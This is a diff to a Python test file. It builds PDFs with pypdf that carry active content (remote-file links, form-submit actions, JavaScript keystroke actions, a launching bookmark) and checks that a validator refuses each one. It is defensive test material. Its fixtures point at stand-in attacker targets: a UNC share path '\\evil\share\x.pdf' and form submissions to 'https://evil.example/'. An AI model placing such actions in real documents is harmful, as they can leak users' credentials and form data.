@@ -88,9 +88,51 @@ def _file_annotation(writer, page):
     page[NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
 
 
-@pytest.mark.parametrize(
-    "change", [_open_action, _link_chaining_to_a_script, _launch, _attached_file, _file_annotation]
+def _link(action: DictionaryObject):
+    def change(writer, page):
+        link = _action(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=ArrayObject([]),
+                       A=action)  # fmt: skip
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+
+    return change
+
+
+_go_to_remote = _link(_action(S=NameObject("/GoToR"), F=TextStringObject("\\\\evil\\share\\x.pdf")))
+_submit_form = _link(
+    _action(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example/"))
 )
+
+
+def _field_with_actions(writer, page):
+    """A text field, not on any page, whose keystroke action runs a script."""
+    field = _action(FT=NameObject("/Tx"), T=TextStringObject("navn"),
+                    AA=_action(K=_action(S=NameObject("/JavaScript"), JS=TextStringObject("x"))))  # fmt: skip
+    fields = ArrayObject([writer._add_object(field)])
+    writer._root_object[NameObject("/AcroForm")] = _action(Fields=fields)
+
+
+def _kid_with_an_action(writer, page):
+    """A field's kid widget whose click submits the form somewhere."""
+    kid = _action(Subtype=NameObject("/Widget"),
+                  A=_action(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example/")))  # fmt: skip
+    parent = _action(FT=NameObject("/Btn"), T=TextStringObject("godtar"),
+                     Kids=ArrayObject([writer._add_object(kid)]))  # fmt: skip
+    writer._root_object[NameObject("/AcroForm")] = _action(
+        Fields=ArrayObject([writer._add_object(parent)])
+    )
+
+
+def _bookmark_launching(writer, page):
+    item = writer._add_object(_action(Title=TextStringObject("Start"),
+                                      A=_action(S=NameObject("/GoToE"))))  # fmt: skip
+    writer._root_object[NameObject("/Outlines")] = _action(First=item, Last=item)
+
+
+@pytest.mark.parametrize(
+    "change", [_open_action, _link_chaining_to_a_script, _launch, _attached_file, _file_annotation,
+               _go_to_remote, _submit_form, _field_with_actions, _kid_with_an_action,
+               _bookmark_launching],
+)  # fmt: skip
 def test_scripts_launches_and_embedded_files_are_refused(change):
     assert "skript eller innebygde filer" in _refused(_pdf(change))
 
